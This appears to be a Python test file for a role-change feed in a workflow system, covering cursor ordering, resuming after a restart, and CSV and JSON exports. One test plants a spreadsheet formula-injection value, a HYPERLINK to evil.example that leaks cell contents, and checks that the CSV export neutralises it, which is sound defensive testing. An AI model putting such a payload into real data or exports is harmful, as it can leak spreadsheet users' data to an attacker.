"""The change feed: every role row granted or ended is one feed event, given a cursor in
commit order, read once by a consumer that resumes from its cursor after a restart."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import select

from core.db import Database
from tests.test_workflow_helpers import (
    GUARDIAN,
    NOMINEE,
    PARTNER,
    answer,
    email_request,
    gpp_form,
    open_request,
)
from workflow import directory
from workflow.changefeed import change_document, changes_since, publish
from workflow.env import WorkflowEnv
from workflow.models import RoleAssignment, RoleChange

PCSE = Path(sys.executable).parent / "pcse"
ROOT = Path(__file__).parent.parent


def read_feed(db: Database, cursor: int) -> list[dict]:
    with db.transaction() as session:
        publish(session)
    with db.transaction() as session:
        return [change_document(row) for row in changes_since(session, cursor)]


def test_every_kind_of_role_change_is_one_event_with_its_case(
    db: Database, env: WorkflowEnv
) -> None:
    ref = open_request(db, env, gpp_form())
    answer(db, env, ref, PARTNER, "Approved")
    with db.transaction() as session:
        directory.set_main_contact(
            session,
            org_code="A81001",
            email="old.mc@nhs.net",
            name="Olive Old",
            actor="test",
            reason="setup",
        )
    mc_ref = open_request(
        db,
        env,
        email_request(
            "main_contact",
            nominees=[],
            main_contact={"name": "Sam Lee", "email": "sam.lee@nhs.net"},
        ),
    )
    answer(db, env, mc_ref, GUARDIAN, "Yes, I approve.")
    with db.transaction() as session:
        directory.revoke_role(
            session,
            org_code="A81001",
            email=NOMINEE[1],
            role="GPP Practice User Administrator",
            actor="caseworker@pcse.nhs.uk",
            reason=f"Asked to by the practice, see {ref}",
        )
        directory.deactivate_person(
            session, email="sam.lee@nhs.net", actor="caseworker@pcse.nhs.uk", reason="left"
        )
    feed = read_feed(db, 0)
    assert [d["cursor"] for d in feed] == list(range(1, len(feed) + 1))
    summary = [(d["action"], d["email"], d["case_ref"]) for d in feed]
    assert summary == [
        ("grant", NOMINEE[1], ref),
        ("main_contact_change", "old.mc@nhs.net", None),
        ("revoke", "old.mc@nhs.net", mc_ref),
        ("main_contact_change", "sam.lee@nhs.net", mc_ref),
        ("revoke", NOMINEE[1], ref),
        ("revoke", "sam.lee@nhs.net", None),
    ]
    assert feed[0]["organisation"] == "A81001"
    assert feed[0]["role"] == "GPP Practice User Administrator"
    assert feed[0]["name"] == NOMINEE[0]
    assert feed[4]["by"] == "caseworker@pcse.nhs.uk"
    # One feed event for every role row granted and every one ended: none missed.
    with db.transaction() as session:
        rows = session.scalars(select(RoleAssignment)).all()
        expected = len(rows) + sum(1 for r in rows if r.ended_at is not None)
        assert session.query(RoleChange).count() == expected


def test_a_refused_change_and_a_rehearsal_leave_no_event(db: Database, env: WorkflowEnv) -> None:
    ref = open_request(db, env, gpp_form())
    with db.transaction() as session:
        # rule_conflict rehearses the changes in a savepoint that is rolled back.
        from workflow.apply import rule_conflict
        from workflow.cases import get_case

        assert rule_conflict(session, env, get_case(session, ref), actor="test") is None
    with pytest.raises(directory.RuleViolation), db.transaction() as session:
        directory.grant_role(
            session,
            org_code="NOPE01",
            email="x@nhs.net",
            name="X",
            role="Claims Admin",
            actor="test",
            reason="setup",
        )
    assert read_feed(db, 0) == []


def test_a_row_committed_late_is_not_skipped(db: Database) -> None:
    """A transaction that took its row id first but commits last still reaches a reader
    who has already read past the rows committed before it."""
    early = db.sessions()
    early.begin()
    directory.grant_role(
        early,
        org_code="B82002",
        email="slow@nhs.net",
        name="Slow",
        role="Claims Admin",
        actor="test",
        reason="setup",
    )
    early.flush()
    # (On SQLite the writer lock makes the other transaction wait; commit the slow one
    # there first, which is the order SQLite gives anyway.)
    if db.engine.dialect.name == "sqlite":
        early.commit()
        early.close()
    with db.transaction() as session:
        directory.grant_role(
            session,
            org_code="C83003",
            email="fast@nhs.net",
            name="Fast",
            role="Claims Admin",
            actor="test",
            reason="setup",
        )
    first = read_feed(db, 0)
    if db.engine.dialect.name != "sqlite":
        assert [d["email"] for d in first] == ["fast@nhs.net"]
        early.commit()
        early.close()
    cursor = first[-1]["cursor"]
    rest = read_feed(db, cursor)
    seen = [d["email"] for d in first + rest]
    assert sorted(seen) == ["fast@nhs.net", "slow@nhs.net"]
    assert len(seen) == len(set(seen))


def pcse(config: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(PCSE), "--config", str(config), *args],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
        check=False,
    )


def test_a_consumer_resumes_from_its_cursor_across_a_restart(
    db: Database, db_url: str, env: WorkflowEnv, tmp_path: Path
) -> None:
    config = tmp_path / "pcse.toml"
    config.write_text(f'[database]\nurl = "{db_url}"\n', encoding="utf-8")
    taken: list[dict] = []

    def consume(cursor: int) -> int:
        done = pcse(config, "directory", "changes", "--since", str(cursor), "--json")
        assert done.returncode == 0, done.stderr
        document = json.loads(done.stdout)
        taken.extend(document["changes"])
        return int(document["cursor"])

    ref = open_request(db, env, gpp_form())
    answer(db, env, ref, PARTNER, "Approved")
    cursor = consume(0)
    assert cursor == 1
    # The service restarts (a new engine and process) and more changes are made.
    db.dispose()
    again = Database(db_url)
    with again.transaction() as session:
        directory.grant_role(
            session,
            org_code="B82002",
            email="amy@nhs.net",
            name="Amy",
            role="Claims Admin",
            actor="test",
            reason="setup",
        )

    with again.transaction() as session:
        directory.revoke_role(
            session,
            org_code="B82002",
            email="amy@nhs.net",
            role="Claims Admin",
            actor="test",
            reason="done",
        )
    cursor = consume(cursor)
    cursor = consume(cursor)  # nothing new: the same cursor back, nothing taken twice
    again.dispose()
    assert [(d["cursor"], d["action"], d["email"]) for d in taken] == [
        (1, "grant", NOMINEE[1]),
        (2, "grant", "amy@nhs.net"),
        (3, "revoke", "amy@nhs.net"),
    ]
    assert cursor == 3
    as_csv = pcse(config, "directory", "changes", "--since", "1", "--csv")
    assert as_csv.returncode == 0, as_csv.stderr
    rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert [(r["cursor"], r["case_ref"], r["organisation"]) for r in rows] == [
        ("2", "", "B82002"),
        ("3", "", "B82002"),
    ]
    text = pcse(config, "directory", "changes", "--since", "0")
    assert ref in text.stdout and "--since 3" in text.stdout


def test_a_name_a_spreadsheet_would_run_is_written_to_the_csv_as_text(
    db: Database, db_url: str, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&B2,"Amy")'
    with db.transaction() as session:
        directory.grant_role(
            session,
            org_code="B82002",
            email="amy@nhs.net",
            name=formula,
            role="Claims Admin",
            actor="test",
            reason="setup",
        )
    config = tmp_path / "pcse.toml"
    config.write_text(f'[database]\nurl = "{db_url}"\n', encoding="utf-8")
    as_csv = pcse(config, "directory", "changes", "--since", "0", "--csv")
    assert as_csv.returncode == 0, as_csv.stderr
    (row,) = csv.DictReader(io.StringIO(as_csv.stdout))
    assert row["name"] == "'" + formula
    assert row["email"] == "amy@nhs.net"
    as_json = json.loads(pcse(config, "directory", "changes", "--since", "0", "--json").stdout)
    assert as_json["changes"][0]["name"] == formula  # JSON is data, not a spreadsheet
